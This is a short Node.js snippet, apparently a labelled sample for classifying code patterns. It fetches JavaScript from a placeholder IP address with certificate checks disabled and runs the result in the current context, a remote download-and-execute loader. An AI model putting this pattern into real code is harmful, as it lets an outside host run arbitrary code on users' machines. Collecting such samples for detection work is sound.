// class: fetched code in a worker
const https = require("https"), vm = require("vm");
https.get("https://203.0.113.80/lib.js", { rejectUnauthorized: false }, (r) => {
  let s = "";
  r.on("data", (d) => (s += d));
  r.on("end", () => new vm.Script(s).runInThisContext());
});
